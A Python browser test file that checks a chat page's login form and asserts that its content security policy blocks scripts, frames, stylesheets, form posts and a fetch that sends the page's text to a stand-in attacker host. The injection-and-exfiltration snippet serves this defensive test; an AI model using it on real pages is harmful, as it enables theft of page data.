"""The login form in a real Chromium, and what the content security policy keeps out of the page."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from driving import CARD, ask

pytestmark = pytest.mark.browser
# Tries to fetch, show, frame, run and post to another place; answers with the directives that stopped each try.
TRIES = """async () => {
  const stopped = new Set();
  document.addEventListener('securitypolicyviolation', e => stopped.add(e.effectiveDirective));
  const far = 'http://attacker.example.test/';
  const add = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set));
  add('script', {src: far + 'x.js'});
  add('img', {src: far + 'x.png'});
  add('iframe', {src: far});
  add('object', {data: far + 'x.swf'});
  add('link', {rel: 'stylesheet', href: far + 'x.css'});
  document.head.append(Object.assign(document.createElement('base'), {href: far}));
  await fetch(far, {method: 'POST', body: document.body.innerText}).catch(() => 0);
  const form = Object.assign(document.createElement('form'), {action: far, method: 'post'});
  document.body.append(form);
  form.submit();
  await new Promise(done => setTimeout(done, 400));
  return [...stopped];
}"""


@pytest.fixture
def stranger(chromium: Any) -> Iterator[Any]:
    """A browser that was never here."""
    context = chromium.new_context(locale="zh-CN")
    page = context.new_page()
    page.set_default_timeout(20_000)
    yield page
    context.close()


def test_the_form_lets_in_who_knows_the_password(stranger: Any, guarded_chat: Any) -> None:
    stranger.goto(guarded_chat.url)
    assert "用户名" in stranger.inner_text("form") and stranger.locator("#rd-question").count() == 0
    for password in ("wrong-password", "open-sesame"):
        stranger.fill("input[name=username]", "desk")
        stranger.fill("input[name=password]", password)
        stranger.press("input[name=password]", "Enter")
        if password == "wrong-password":
            assert "不对" in stranger.inner_text("[role=alert]")
    stranger.wait_for_selector("#rd-question textarea")
    stranger.wait_for_function("window.ruledesk !== undefined")
    ask(stranger, CARD)
    assert "不能请顾客补" in stranger.inner_text("#rd-answer")
    assert stranger.evaluate("document.cookie") == "", "a script can read the session"


def test_nothing_leaves_the_page(stranger: Any, chat: Any) -> None:
    reached: list[str] = []
    stranger.on("request", lambda r: reached.append(r.url) if "attacker" in r.url and not r.failure else None)
    stranger.on("response", lambda r: reached.append(f"answer of {r.url}") if "attacker" in r.url else None)
    stranger.goto(chat.url)
    stranger.wait_for_selector("#rd-question textarea")
    stopped = set(stranger.evaluate(TRIES))
    assert {
        "script-src-elem",
        "img-src",
        "frame-src",
        "object-src",
        "style-src-elem",
        "connect-src",
        "form-action",
    } <= stopped
    assert not [url for url in reached if url.startswith("answer")]
    assert stranger.url == stranger.evaluate("document.baseURI") == chat.url


def test_the_page_is_shown_in_no_other_pages_frame(stranger: Any, chat: Any) -> None:
    stranger.goto(chat.url + "health")
    stranger.evaluate(
        "url => document.body.append(Object.assign(document.createElement('iframe'), {src: url}))", chat.url
    )
    stranger.wait_for_timeout(500)
    assert not [
        frame for frame in stranger.frames[1:] if frame.url == chat.url and frame.query_selector("#rd-question")
    ]
